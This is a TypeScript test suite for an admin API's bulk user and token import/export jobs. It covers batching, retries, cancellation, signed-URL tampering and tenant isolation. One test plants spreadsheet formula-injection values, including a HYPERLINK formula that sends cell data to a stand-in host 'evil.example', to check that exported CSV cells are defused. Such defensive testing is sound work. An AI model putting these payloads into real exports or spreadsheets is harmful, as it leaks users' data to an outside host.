import { parse } from 'csv-parse/sync';
import { setTimeout as sleep } from 'node:timers/promises';
import { localJobs } from '../../infra/local/jobs';
import { JOB_BATCH_ROWS, JOB_LIMITS } from '../../shared/rules';
import { expectProblem, TestApi, type Tenant } from '../support/runtime';

/**
 * R19/R22 bulk jobs through the local runtime: the admin creates a job, uploads the file to the
 * signed URL, starts it, polls it, downloads the per-row report; the same handlers run the
 * batches here as under the Distributed Map on AWS.
 */

let api: TestApi;
let acme: Tenant;
let other: Tenant;

type Upload = { url: string; method: 'PUT'; headers: Record<string, string>; expiresAt: string };
type Job = {
  jobId: string;
  kind: string;
  state: string;
  batches: { total: number; done: number };
  counts: { rows: number; created: number; updated: number; unchanged: number; failed: number };
  finishedAt?: string;
  error?: string;
};
type Line = { line: number; id?: string; status: string; errors?: { detail: string; pointer?: string }[] };

beforeAll(async () => {
  api = await TestApi.start({ faultInjection: true });
  acme = await api.createTenant('Acme');
  other = await api.createTenant('Other');
});

afterAll(() => api.stop());

const create = (tenant: Tenant, body: Record<string, unknown>) => api.request<{ job: Job; upload?: Upload }>('POST', '/v1/admin/jobs', { key: tenant.adminKey, body });

async function upload(target: Upload, file: string | Buffer, headers: Record<string, string> = target.headers): Promise<Response> {
  return fetch(target.url, { method: 'PUT', headers, body: file });
}

/** Creates an import job, uploads the file and starts it; answers the start's reply. */
async function runImport(tenant: Tenant, kind: 'user-import' | 'token-import', file: string) {
  const created = await create(tenant, { kind, bytes: Buffer.byteLength(file) });
  expect(created.status).toBe(202);
  expect((await upload(created.body.upload as Upload, file)).status).toBe(200);
  return api.request<Job>('POST', `/v1/admin/jobs/${created.body.job.jobId}/start`, { key: tenant.adminKey });
}

async function finished(tenant: Tenant, jobId: string): Promise<Job> {
  await localJobs.idle();
  const reply = await api.request<Job>('GET', `/v1/admin/jobs/${jobId}`, { key: tenant.adminKey });
  expect(reply.status).toBe(200);
  return reply.body;
}

async function download(tenant: Tenant, jobId: string): Promise<string> {
  const reply = await api.request<{ url: string; method: string }>('GET', `/v1/admin/jobs/${jobId}/download`, { key: tenant.adminKey });
  expect(reply.status).toBe(200);
  const file = await fetch(reply.body.url);
  expect(file.status).toBe(200);
  return file.text();
}

const report = async (tenant: Tenant, jobId: string): Promise<Line[]> =>
  (await download(tenant, jobId))
    .trim()
    .split('\n')
    .map((l) => JSON.parse(l) as Line);

const usersCsv = (from: number, to: number) =>
  ['userId,firstName,phone,mfaEnabled', ...Array.from({ length: to - from }, (_, i) => `bulk-${from + i},Bulk ${from + i},+1415555${String(1000 + ((from + i) % 9000)).padStart(4, '0')},true`)].join('\n') + '\n';

describe('R19 user import job', () => {
  it('imports a file in batches, reports every row, and a malformed row among good ones fails alone', async () => {
    const rows = usersCsv(0, JOB_BATCH_ROWS + 20).trimEnd().split('\n');
    // Line 4: one field too many; line 8: a number no phone has; the rest are good.
    rows[3] = 'broken,Too,+14155550100,true,extra';
    rows[7] = 'badphone,Bad,+1415,true';
    const started = await runImport(acme, 'user-import', `${rows.join('\n')}\n`);
    expect(started.status).toBe(202);
    expect(started.body).toMatchObject({ state: 'running', batches: { total: 2 } });

    const job = await finished(acme, started.body.jobId);
    expect(job).toMatchObject({ state: 'succeeded', batches: { total: 2, done: 2 }, counts: { rows: JOB_BATCH_ROWS + 20, created: JOB_BATCH_ROWS + 18, failed: 2 } });
    const lines = await report(acme, job.jobId);
    expect(lines).toHaveLength(JOB_BATCH_ROWS + 20);
    expect(lines.map((l) => l.line)).toEqual(Array.from({ length: JOB_BATCH_ROWS + 20 }, (_, i) => i + 2));
    expect(lines.find((l) => l.line === 4)).toMatchObject({ status: 'error', errors: [{ detail: 'The record has 5 fields; the header has 4' }] });
    expect(lines.find((l) => l.line === 8)).toMatchObject({ id: 'badphone', status: 'error' });
    expect(lines.find((l) => l.line === 2)).toEqual({ line: 2, id: 'bulk-0', status: 'created' });
    const user = await api.request('GET', '/v1/admin/users/bulk-600', { key: acme.adminKey });
    expect(user.status).toBe(404);
    expect((await api.request('GET', `/v1/admin/users/bulk-${JOB_BATCH_ROWS + 19}`, { key: acme.adminKey })).body).toMatchObject({ firstName: `Bulk ${JOB_BATCH_ROWS + 19}`, mfaEnabled: true });
  });

  it('a stray quote inside a field cannot make one batch import more than a batch of rows (the row limit holds)', async () => {
    const rows = usersCsv(5000, 5000 + JOB_BATCH_ROWS + 30).trimEnd().split('\n');
    // One quote in the middle of a field: the cut sees an open quote to the end of the file (one
    // batch), while the parser skips that record and reads every one after it.
    rows[1] = 'stray-quote,Br"oken,+14155550100,true';
    const started = await runImport(acme, 'user-import', `${rows.join('\n')}\n`);
    expect(started.status).toBe(202);
    const job = await finished(acme, started.body.jobId);
    const lines = await report(acme, job.jobId);
    const created = lines.filter((l) => l.status === 'created');
    expect(created.length).toBeLessThanOrEqual(JOB_BATCH_ROWS);
    expect(lines.some((l) => l.status === 'error' && JSON.stringify(l).includes(`more than ${JOB_BATCH_ROWS} records`))).toBe(true);
    // The last rows of the file were not imported.
    expect((await api.request('GET', `/v1/admin/users/bulk-${5000 + JOB_BATCH_ROWS + 28}`, { key: acme.adminKey })).status).toBe(404);
  });

  it('re-running the same file changes nothing: every row unchanged, no user written again', async () => {
    const file = usersCsv(1000, 1030);
    const first = await finished(acme, (await runImport(acme, 'user-import', file)).body.jobId);
    expect(first.counts).toMatchObject({ rows: 30, created: 30 });
    const before = (await api.request<{ version: number; updatedAt: string }>('GET', '/v1/admin/users/bulk-1010', { key: acme.adminKey })).body;
    const again = await finished(acme, (await runImport(acme, 'user-import', file)).body.jobId);
    expect(again).toMatchObject({ state: 'succeeded', counts: { rows: 30, created: 0, updated: 0, unchanged: 30, failed: 0 } });
    expect((await api.request('GET', '/v1/admin/users/bulk-1010', { key: acme.adminKey })).body).toMatchObject({ version: before.version, updatedAt: before.updatedAt });
  });

  it('a batch that crashed after writing its rows runs again without counting or writing twice', async () => {
    // The batch's own record (one transaction) fails three times: the SDK's attempts, so the batch throws and is retried.
    await api.setFaults([{ operation: 'TransactWriteItems', table: 'Tenants', kind: 'network', times: 3 }]);
    try {
      const job = await finished(acme, (await runImport(acme, 'user-import', usersCsv(2000, 2010))).body.jobId);
      expect((await api.faults()).injected).toBe(3);
      expect(job).toMatchObject({ state: 'succeeded', batches: { done: 1 }, counts: { rows: 10, failed: 0 } });
      // The retry found the users it had written: created the first time, unchanged on the second run of the batch.
      expect(job.counts.created + job.counts.unchanged).toBe(10);
      expect((await api.request<{ version: number }>('GET', '/v1/admin/users/bulk-2005', { key: acme.adminKey })).body.version).toBe(1);
    } finally {
      await api.clearFaults();
    }
  });

  it('cancel stops further batches: a job cancelled before its batches ran imports nothing', async () => {
    const release = localJobs.hold();
    let jobId: string;
    try {
      const started = await runImport(acme, 'user-import', usersCsv(3000, 3000 + JOB_BATCH_ROWS * 2));
      jobId = started.body.jobId;
      const cancelled = await api.request<Job>('POST', `/v1/admin/jobs/${jobId}/cancel`, { key: acme.adminKey });
      expect(cancelled.status).toBe(200);
      expect(cancelled.body.state).toBe('cancelled');
    } finally {
      release();
    }
    const job = await finished(acme, jobId);
    expect(job).toMatchObject({ state: 'cancelled', batches: { total: 2, done: 0 }, counts: { rows: 0 } });
    expect((await api.request('GET', '/v1/admin/users/bulk-3000', { key: acme.adminKey })).status).toBe(404);
    expect(await report(acme, jobId)).toEqual([
      expect.objectContaining({ line: 2, status: 'error' }),
      expect.objectContaining({ line: 2 + JOB_BATCH_ROWS, status: 'error' }),
    ]);
    expectProblem(await api.request('POST', `/v1/admin/jobs/${jobId}/cancel`, { key: acme.adminKey }), 409, 'conflict');
  });
});

describe('R19 cancel stops the work', () => {
  it('a job cancelled after its first batch: no other batch is even invoked, the batch that ran is counted and reported, the rest named as cancelled', async () => {
    const release = localJobs.hold({ after: 1 });
    let jobId: string;
    try {
      const started = await runImport(acme, 'user-import', usersCsv(9000, 9000 + JOB_BATCH_ROWS * 2 + 10));
      expect(started.body.batches.total).toBe(3);
      jobId = started.body.jobId;
      while ((await api.request<Job>('GET', `/v1/admin/jobs/${jobId}`, { key: acme.adminKey })).body.batches.done < 1) await sleep(20);
      const cancelled = await api.request<Job>('POST', `/v1/admin/jobs/${jobId}/cancel`, { key: acme.adminKey });
      expect(cancelled.body).toMatchObject({ state: 'cancelled', batches: { total: 3, done: 1 } });
    } finally {
      release();
    }
    const job = await finished(acme, jobId);
    // The driver stopped scheduling, as StopExecution stops the Map: the two held batches never ran.
    expect(localJobs.invocations(jobId)).toBe(1);
    expect(job).toMatchObject({ state: 'cancelled', batches: { total: 3, done: 1 }, counts: { rows: JOB_BATCH_ROWS, created: JOB_BATCH_ROWS, failed: 0 } });
    expect(job.finishedAt).toBeDefined();
    const lines = await report(acme, jobId);
    expect(lines).toHaveLength(JOB_BATCH_ROWS + 2);
    expect(lines.filter((l) => l.status === 'created')).toHaveLength(JOB_BATCH_ROWS);
    expect(lines.slice(JOB_BATCH_ROWS)).toEqual([
      { line: 2 + JOB_BATCH_ROWS, status: 'error', errors: [{ detail: `The job was cancelled before this batch ran (the batch from line ${2 + JOB_BATCH_ROWS})` }] },
      { line: 2 + JOB_BATCH_ROWS * 2, status: 'error', errors: [{ detail: `The job was cancelled before this batch ran (the batch from line ${2 + JOB_BATCH_ROWS * 2})` }] },
    ]);
    expect((await api.request('GET', '/v1/admin/users/bulk-9000', { key: acme.adminKey })).status).toBe(200);
    expect((await api.request('GET', `/v1/admin/users/bulk-${9000 + JOB_BATCH_ROWS}`, { key: acme.adminKey })).status).toBe(404);
  });
});

describe('R19 cancel lets a started batch finish', () => {
  it('a batch that crashed before the cancel is retried after it, finishes and is counted; the batch that never started does not', async () => {
    // The batch's first read of its users (BatchGetItem, after it started) fails through the SDK's three attempts: the batch throws and waits for its retry.
    const release = localJobs.hold();
    let jobId: string;
    try {
      const started = await runImport(acme, 'user-import', usersCsv(11000, 11000 + JOB_BATCH_ROWS + 5));
      jobId = started.body.jobId;
      await api.setFaults([{ operation: 'BatchGetItem', table: 'Tenants', kind: 'network', times: 3 }]);
      // The first batch goes; the second, and the first's retry, wait.
      while (localJobs.invocations(jobId) < 1) {
        release(1);
        await sleep(20);
      }
      while ((await api.faults()).injected < 3) await sleep(20);
      expect((await api.request<Job>('POST', `/v1/admin/jobs/${jobId}/cancel`, { key: acme.adminKey })).body).toMatchObject({ state: 'cancelled', batches: { done: 0 } });
    } finally {
      release();
      await api.clearFaults();
    }
    const job = await finished(acme, jobId);
    expect(localJobs.invocations(jobId)).toBe(1);
    expect(job).toMatchObject({ state: 'cancelled', batches: { total: 2, done: 1 }, counts: { rows: JOB_BATCH_ROWS, failed: 0 } });
    expect(job.counts.created + job.counts.unchanged).toBe(JOB_BATCH_ROWS);
    const lines = await report(acme, jobId);
    expect(lines.filter((l) => l.status !== 'error')).toHaveLength(JOB_BATCH_ROWS);
    expect(lines.filter((l) => l.status === 'error')).toEqual([expect.objectContaining({ line: 2 + JOB_BATCH_ROWS })]);
    expect((await api.request('GET', `/v1/admin/users/bulk-${11000 + JOB_BATCH_ROWS - 1}`, { key: acme.adminKey })).status).toBe(200);
    expect((await api.request('GET', `/v1/admin/users/bulk-${11000 + JOB_BATCH_ROWS}`, { key: acme.adminKey })).status).toBe(404);
  });
});

describe('R19 the file is pinned at start', () => {
  it('a file replaced through the still-valid upload URL after the start fails the job with a clear report; nothing of either file is imported', async () => {
    const original = usersCsv(6000, 6010);
    const replacement = usersCsv(7000, 7010);
    expect(Buffer.byteLength(replacement)).toBe(Buffer.byteLength(original));
    const release = localJobs.hold();
    let jobId: string;
    try {
      const created = await create(acme, { kind: 'user-import', bytes: Buffer.byteLength(original) });
      const target = created.body.upload as Upload;
      expect((await upload(target, original)).status).toBe(200);
      jobId = created.body.job.jobId;
      expect((await api.request<Job>('POST', `/v1/admin/jobs/${jobId}/start`, { key: acme.adminKey })).status).toBe(202);
      // The URL lasts 15 minutes: whoever holds it can PUT another file of the same size.
      expect((await upload(target, replacement)).status).toBe(200);
    } finally {
      release();
    }
    const job = await finished(acme, jobId);
    expect(job).toMatchObject({ state: 'failed', batches: { total: 1, done: 0 }, counts: { rows: 0 } });
    expect(job.error).toContain('replaced after the job started');
    expect((await api.request('GET', '/v1/admin/users/bulk-7000', { key: acme.adminKey })).status).toBe(404);
    expect((await api.request('GET', '/v1/admin/users/bulk-6000', { key: acme.adminKey })).status).toBe(404);
    const lines = await report(acme, jobId);
    expect(lines).toEqual([expect.objectContaining({ line: 2, status: 'error' })]);
    expect(lines[0]?.errors?.[0]?.detail).toContain('replaced after the job started');
    expectProblem(await api.request('POST', `/v1/admin/jobs/${jobId}/start`, { key: acme.adminKey }), 409, 'conflict');
  });

  it('a job starts once: a second start, even at the same moment, is a 409 and runs nothing twice', async () => {
    const file = usersCsv(8000, 8005);
    const created = await create(acme, { kind: 'user-import', bytes: Buffer.byteLength(file) });
    expect((await upload(created.body.upload as Upload, file)).status).toBe(200);
    const jobId = created.body.job.jobId;
    const starts = await Promise.all([1, 2].map(() => api.request<Job>('POST', `/v1/admin/jobs/${jobId}/start`, { key: acme.adminKey })));
    expect(starts.map((r) => r.status).sort()).toEqual([202, 409]);
    const job = await finished(acme, jobId);
    expect(job).toMatchObject({ state: 'succeeded', batches: { total: 1, done: 1 }, counts: { rows: 5, created: 5 } });
    expectProblem(await api.request('POST', `/v1/admin/jobs/${jobId}/start`, { key: acme.adminKey }), 409, 'conflict');
  });
});

describe('R19/R29 limits and bad files', () => {
  it('a file over the byte limit is refused when the job is created (413) and changes nothing', async () => {
    const reply = await create(acme, { kind: 'user-import', bytes: JOB_LIMITS['user-import'].maxBytes + 1 });
    expectProblem(reply, 413, 'payload-too-large');
    expectProblem(await create(acme, { kind: 'user-import' }), 400, 'validation-failed');
  });

  it('an upload larger than the URL was signed for is refused, and the job cannot start without its file', async () => {
    const created = await create(acme, { kind: 'user-import', bytes: 20 });
    const refused = await upload(created.body.upload as Upload, usersCsv(0, 3));
    expect(refused.status).toBe(413);
    expect(refused.headers.get('content-type')).toBe('application/problem+json');
    expectProblem(await api.request('POST', `/v1/admin/jobs/${created.body.job.jobId}/start`, { key: acme.adminKey }), 409, 'conflict');
  });

  it('a file over the row limit is refused at start with a 413; the job waits for a good file', async () => {
    const rows = JOB_LIMITS['token-import'].maxRows + 1;
    const file = `serial,secret,interval\n${Array.from({ length: rows }, (_, i) => `T${i},GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ,30`).join('\n')}\n`;
    const started = await runImport(acme, 'token-import', file);
    expectProblem(started, 413, 'payload-too-large');
    expect(JSON.stringify(started.body)).toContain(`${JOB_LIMITS['token-import'].maxRows} rows`);
  });

  it('a file without the columns it needs is refused at start (400)', async () => {
    expectProblem(await runImport(acme, 'user-import', 'name,phone\nx,+14155550100\n'), 400, 'validation-failed');
  });

  it('an upload URL that was altered, or used after it expired, is a 403', async () => {
    const created = await create(acme, { kind: 'user-import', bytes: 10 });
    const target = created.body.upload as Upload;
    const altered = { ...target, url: target.url.replace('bytes=10', 'bytes=99999') };
    expect((await upload(altered, '0123456789')).status).toBe(403);
    // A path that is not valid percent-encoding, and a URL without its expiry: refused, not a 500.
    const url = new URL(target.url);
    expect((await upload({ ...target, url: `${url.origin}${url.pathname}%E0${url.search}` }, '0123456789')).status).toBe(403);
    url.searchParams.delete('expires');
    expect((await upload({ ...target, url: url.toString() }, '0123456789')).status).toBe(403);
    await api.advanceClock(16 * 60);
    expect((await upload(target, '0123456789')).status).toBe(403);
  });
});

describe('R27 tenant isolation of jobs', () => {
  it('another tenant’s job is 404 on every route, and its files are out of reach', async () => {
    const started = await runImport(acme, 'user-import', usersCsv(4000, 4003));
    const jobId = started.body.jobId;
    await finished(acme, jobId);
    for (const [method, path] of [
      ['GET', `/v1/admin/jobs/${jobId}`],
      ['POST', `/v1/admin/jobs/${jobId}/start`],
      ['POST', `/v1/admin/jobs/${jobId}/cancel`],
      ['GET', `/v1/admin/jobs/${jobId}/download`],
    ] as const) {
      expectProblem(await api.request(method, path, { key: other.adminKey }), 404, 'not-found');
    }
    // A download URL names its tenant's object: pointed at another tenant's, its signature fails.
    const mine = await api.request<{ url: string }>('GET', `/v1/admin/jobs/${jobId}/download`, { key: acme.adminKey });
    expect((await fetch(mine.body.url.replace(acme.tenantId, other.tenantId))).status).toBe(403);
    expect((await fetch(mine.body.url, { method: 'PUT', body: 'x' })).status).toBe(403);
    expectProblem(await api.request('GET', '/v1/admin/jobs/job_AAAAAAAAAAAAAAAAAAAAAA', { key: acme.adminKey }), 404, 'not-found');
    expectProblem(await api.request('GET', '/v1/admin/jobs/not-a-job', { key: acme.adminKey }), 400, 'validation-failed');
  });
});

describe('R19 users export and R22 token import jobs', () => {
  it('exports every user of the tenant as CSV in the import columns; importing it back changes nothing', async () => {
    const tenant = await api.createTenant('Exporter');
    await finished(tenant, (await runImport(tenant, 'user-import', usersCsv(5000, 5012))).body.jobId);
    const created = await create(tenant, { kind: 'user-export' });
    expect(created.status).toBe(202);
    expect(created.body.upload).toBeUndefined();
    const job = await finished(tenant, created.body.job.jobId);
    expect(job).toMatchObject({ state: 'succeeded', counts: { rows: 12 } });
    const csv = await download(tenant, job.jobId);
    const [header, ...rows] = csv.trimEnd().split('\n');
    expect(header).toBe('userId,firstName,lastName,email,phone,backupPhones,officePhone,mfaEnabled,licensed,defaultMethod');
    expect(rows).toHaveLength(12);
    // A phone number starts with +: a spreadsheet would read it as a formula, so it is defused.
    expect(rows).toContain(`bulk-5003,Bulk 5003,,,"'+14155556003",,,true,false,`);
    const back = await finished(tenant, (await runImport(tenant, 'user-import', csv)).body.jobId);
    expect(back.counts).toMatchObject({ rows: 12, unchanged: 12, created: 0, updated: 0, failed: 0 });
    // Another tenant's export holds none of these users.
    const theirs = await finished(other, (await create(other, { kind: 'user-export' })).body.job.jobId);
    expect(await download(other, theirs.jobId)).not.toContain('bulk-5003');
  });

  it('defuses every cell a spreadsheet would run as a formula, and importing the export back gives the original values', async () => {
    const tenant = await api.createTenant('Formulas');
    const names: Record<string, { firstName: string; lastName: string }> = {
      '@evil': { firstName: '=HYPERLINK("http://evil.example/?"&A1,"Open")', lastName: '+1' },
      '-2': { firstName: '-2+3', lastName: '@SUM(A1:A9)' },
      quoted: { firstName: "'=already quoted", lastName: "O'Neill" },
    };
    for (const [userId, body] of Object.entries(names)) {
      expect((await api.request('PUT', `/v1/admin/users/${encodeURIComponent(userId)}`, { key: tenant.adminKey, body: { ...body, mfaEnabled: true, phones: { primary: '+14155550123' } } })).status).toBe(201);
    }
    const exported = await finished(tenant, (await create(tenant, { kind: 'user-export' })).body.job.jobId);
    const csv = await download(tenant, exported.jobId);
    const cells = (parse(csv, { from_line: 2 }) as string[][]).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(csv).toContain(`"'@evil","'=HYPERLINK(""http://evil.example/?""&A1,""Open"")","'+1"`);
    expect(csv).toContain(`"''=already quoted",O'Neill`);
    const back = await finished(tenant, (await runImport(tenant, 'user-import', csv)).body.jobId);
    expect(back.counts).toMatchObject({ rows: 3, unchanged: 3, created: 0, updated: 0, failed: 0 });
    for (const [userId, body] of Object.entries(names)) {
      expect((await api.request('GET', `/v1/admin/users/${encodeURIComponent(userId)}`, { key: tenant.adminKey })).body).toMatchObject({ ...body, phones: { primary: { e164: '+14155550123' } } });
    }
  });

  it('imports tokens with one sealing per batch; a re-run finds every serial stored and writes nothing', async () => {
    const file = 'serial,secret,interval\nJOB-1,GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ,30\nJOB-2,not-base32!,30\nJOB-3,GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ,60\n';
    const job = await finished(acme, (await runImport(acme, 'token-import', file)).body.jobId);
    expect(job).toMatchObject({ state: 'succeeded', counts: { rows: 3, created: 2, failed: 1 } });
    expect((await report(acme, job.jobId)).find((l) => l.line === 3)).toMatchObject({ id: 'JOB-2', status: 'error' });
    const again = await finished(acme, (await runImport(acme, 'token-import', file)).body.jobId);
    expect(again.counts).toMatchObject({ rows: 3, created: 0, unchanged: 2, failed: 1 });
    expect(await report(acme, again.jobId)).toContainEqual({ line: 2, id: 'JOB-1', status: 'exists' });
  });
});
